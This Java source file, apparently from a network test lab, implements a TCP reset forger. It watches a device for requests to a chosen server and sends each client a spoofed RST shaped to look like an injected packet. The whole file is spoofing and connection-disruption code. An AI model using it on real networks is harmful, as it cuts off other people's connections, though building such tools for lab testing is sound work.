package dee.bot.lab.forger;

import dee.bot.lab.service.Arguments;
import dee.bot.lab.service.ParentWatch;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;

/**
 * Resets a server's connections in its name: watches a device on the way, and a moment after each
 * request sends the client a RST that fits the connection. It looks as such a packet often does:
 * without ACK, from another distance, with a window and an IP-ID of its own. It ends with its
 * parent.
 *
 * <pre>
 * ResetForger --victim 198.18.31.1:8080 --device eth0
 * </pre>
 */
public final class ResetForger {

  /** Long enough for the server to acknowledge the request, too short for it to answer. */
  private static final Duration MOMENT = Duration.ofMillis(20);

  private static final ForgedSegment.Look LOOK =
      new ForgedSegment.Look(ForgedSegment.RST, 1024, 128, 0x7a69);

  private ResetForger() {}

  /** Runs until standard input ends. */
  public static void main(String[] words) throws IOException {
    ParentWatch.start();
    Arguments arguments = Arguments.of(words);
    InetSocketAddress victim = SynForger.address(arguments.value("--victim"));
    BlockingQueue<Due> open = new LinkedBlockingQueue<>();
    Thread.ofPlatform().daemon(true).name("forger").start(() -> sendAll(open));
    try (PacketTap tap = PacketTap.on(arguments.value("--device"))) {
      while (!Thread.currentThread().isInterrupted()) {
        SeenRequest.read(tap.next(), victim)
            .map(request -> new Due(System.nanoTime() + MOMENT.toNanos(), answer(request)))
            .ifPresent(open::add);
      }
    }
  }

  /** A segment and when to send it. */
  private record Due(long at, ForgedSegment segment) {}

  private static void sendAll(BlockingQueue<Due> open) {
    try (RawSocket raw = new RawSocket()) {
      while (true) {
        Due next = open.take();
        Thread.sleep(Duration.ofNanos(Math.max(0, next.at() - System.nanoTime())));
        raw.send(next.segment());
      }
    } catch (InterruptedException _) {
      Thread.currentThread().interrupt();
    }
  }

  private static ForgedSegment answer(SeenRequest request) {
    return new ForgedSegment(
        new ForgedSegment.Ends(request.server(), request.client()), request.next(), LOOK);
  }
}
